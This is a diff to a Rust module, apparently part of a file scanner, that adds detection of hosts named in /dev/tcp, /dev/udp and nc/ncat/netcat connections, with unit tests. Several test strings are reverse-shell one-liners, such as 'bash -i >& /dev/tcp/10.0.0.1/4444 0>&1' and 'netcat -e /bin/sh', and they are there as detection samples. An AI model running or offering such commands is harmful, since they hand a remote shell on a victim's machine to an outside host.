@@ -1,4 +1,4 @@
-//! The hosts that a file names, in URLs and in `git@host:`.
+//! The hosts that a file names, in URLs, in `git@host:`, and in connections of a shell.
 
 use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
 
@@ -12,6 +12,8 @@ const SCHEMES: [&str; 9] = [
 ];
 /// Maximum number of bytes to search before `://` for an attribute of XML.
 const MAX_ATTRIBUTE: usize = 64;
+/// Maximum number of bytes of the arguments of a program that connects to a host.
+const MAX_ARGUMENTS: usize = 300;
 /// Maximum length of the name of a host. Source: RFC 1035, section 2.3.4.
 const MAX_HOST: usize = 253;
 
@@ -35,6 +37,42 @@ pub(super) fn look(file: &TextFile<'_>, found: &mut Found) {
         if path.starts_with(|c: char| !c.is_whitespace())
             && let Some(host) = normalized(host)
         {
+            found.add_at(Kind::Host, &host, file, at);
+        }
+    }
+    look_for_connections(file, found);
+}
+
+/// Adds the hosts of `/dev/tcp/HOST/PORT` and `nc HOST PORT`.
+fn look_for_connections(file: &TextFile<'_>, found: &mut Found) {
+    let text = file.text.as_str();
+    for device in ["/dev/tcp/", "/dev/udp/"] {
+        for (at, _) in text.match_indices(device) {
+            let rest = &text[at + device.len()..];
+            let Some((host, _)) = rest.split_once('/') else {
+                continue;
+            };
+            if host.chars().all(is_host_char)
+                && let Some(host) = normalized(host)
+            {
+                found.add_at(Kind::Host, &host, file, at);
+            }
+        }
+    }
+    let programs = ["nc ", "ncat ", "netcat "].into_iter();
+    for (at, program) in programs.flat_map(|program| text.match_indices(program)) {
+        if text[..at].ends_with(|c: char| c.is_alphanumeric() || "-_".contains(c)) {
+            continue;
+        }
+        let rest = &text[at + program.len()..];
+        let rest = &rest[..rest.floor_char_boundary(MAX_ARGUMENTS)];
+        let end = rest.find(['\n', '|', ';', '&']).unwrap_or(rest.len());
+        let words: Vec<&str> = rest[..end].split_whitespace().collect();
+        let mut hosts = words.windows(2).filter(|pair| {
+            let port = pair[1].trim_end_matches(|c: char| !c.is_ascii_digit());
+            port.parse::<u16>().is_ok() && pair[0].chars().all(is_host_char)
+        });
+        if let Some(host) = hosts.find_map(|pair| normalized(pair[0])) {
             found.add_at(Kind::Host, &host, file, at);
         }
     }
@@ -173,6 +211,11 @@ mod tests {
             ("http://3232235777/", "3232235777"),
             ("https://bücher.de/<br>", "bücher.de"),
             ("https://acme.io<br>", "acme.io"),
+            ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "10.0.0.1"),
+            ("sh </dev/udp/acme.io/53", "acme.io"),
+            ("cat /tmp/f | sh -i | nc acme.io 4444 > /tmp/f", "acme.io"),
+            ("`ncat -w 5 --ssl acme.io 443`", "acme.io"),
+            ("/bin/netcat -e /bin/sh 10.0.0.1 44", "10.0.0.1"),
         ] {
             assert_eq!(hosts(text), [host], "{text}");
         }
@@ -188,6 +231,7 @@ mod tests {
             "xmlns:w=\"http://schemas.acme.io/x\" xmlns='http://acme.io/y'",
             "me@acme.io git@acme.io git@acme.io: acme.io/x",
             "https://api.{domain}/ https://{name}acme.io https://1.2.3/",
+            "/dev/tcp/$HOST/80 /dev/tcp/db/5432 nc -z localhost 80; sync acme.io 80; func acme.io 80",
         ] {
             assert_eq!(hosts(text), [""; 0], "{text}");
         }
